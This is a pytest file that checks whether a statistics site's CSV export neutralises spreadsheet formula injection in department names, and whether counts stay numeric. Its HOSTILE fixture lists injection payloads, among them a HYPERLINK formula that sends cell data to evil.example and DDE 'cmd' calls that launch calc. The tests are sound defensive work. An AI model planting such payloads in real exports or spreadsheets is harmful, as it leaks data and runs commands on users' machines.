"""Statistics CSV: hostile registry names open in a spreadsheet as text, never as formulas; counts stay numbers."""

from __future__ import annotations

import csv
import io
import textwrap

import pytest
import yaml

from stats.figures import CSV_HEADER, csv_text, figures_for
from stats.spreadsheet import BOM, cell
from tests.sites import write_site
from tests.unit.test_stats import DEPARTMENTS, FILES, load, story

# What someone could propose in a pull request to departments.yml: each would run in Excel, WPS or LibreOffice.
HOSTILE = {
    "eq": '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "space": "  =1+1",
    "ideographic-space": "\u3000=1+1",
    "number-like": "-3",
}


@pytest.fixture(scope="module")
def rows(tmp_path_factory: pytest.TempPathFactory) -> list[list[str]]:
    """The 2020 CSV of the statistics fixture, its registry grown by the hostile names (written by a YAML library)."""
    registry = yaml.safe_load(textwrap.dedent(DEPARTMENTS))
    registry += [{"id": key, "name": name, "kind": "市科协"} for key, name in HOSTILE.items()]
    files = {
        **FILES,
        "content/data/departments.yml": yaml.safe_dump(registry, allow_unicode=True),
        "content/articles/minus-a.md": story("负号单位稿", "2020-05-01", "minus", "xinhua 2020-05-02"),
    }
    site = load(write_site(tmp_path_factory.mktemp("hostile"), files))
    # The registry trims spaces, tabs and line ends around a name: what is left still starts a formula.
    assert {key: site.registries["departments"][key]["name"] for key in HOSTILE} == {
        key: name.strip() for key, name in HOSTILE.items()
    }
    text = csv_text(figures_for(site, site.options.now, 2020))
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text.removeprefix(BOM))))


@pytest.mark.parametrize("key", HOSTILE)
def test_a_hostile_name_is_text(rows: list[list[str]], key: str) -> None:
    by_id = {row[0]: row for row in rows[1:]}
    assert by_id[key][1] == "'" + HOSTILE[key].strip()  # the whole name kept, behind the quote a spreadsheet hides


def test_plain_names_ids_kinds_and_the_header_are_unchanged(rows: list[list[str]]) -> None:
    assert tuple(rows[0]) == CSV_HEADER
    by_id = {row[0]: row for row in rows[1:]}
    assert by_id["zzskx"][1:3] == ["郑州市科协", "市科协"] and by_id["dyxcb"][1:3] == ["调研宣传部", "机关部室"]
    assert [row[0] for row in rows[1:]][-len(HOSTILE) :] == list(HOSTILE)


def test_counts_stay_numbers(rows: list[list[str]]) -> None:
    by_id = {row[0]: row for row in rows[1:]}
    assert by_id["minus"][3:6] == ["1", "1", "1"]  # a department named "-2+…" still has plain counts
    assert all(value.isdigit() for row in rows[1:] for value in row[3:])


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (3, 3),
        (0, 0),
        (-3, -3),  # a number is never a formula; our counts are never negative anyway
        (2.5, 2.5),
        ("-3", "'-3"),  # text that looks like a number is still text from a registry
        ("=1", "'=1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        (" =1", "' =1"),
        ("", ""),
        ("河南日报", "河南日报"),
        ("中国科协之声 - 新媒体", "中国科协之声 - 新媒体"),  # a sign inside a name is harmless
        (True, "True"),
    ],
)
def test_a_cell(value: object, written: object) -> None:
    assert cell(value) == written
